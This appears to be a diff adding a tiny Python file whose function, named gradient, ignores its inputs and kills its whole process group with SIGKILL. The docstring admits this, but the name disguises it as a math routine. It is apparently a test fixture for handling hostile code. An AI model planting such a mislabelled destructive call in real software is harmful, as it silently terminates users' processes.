@@ -1,0 +1,7 @@
+"""Ends its process group."""
+
+import os
+
+
+def gradient(f, x):
+    os.killpg(0, 9)
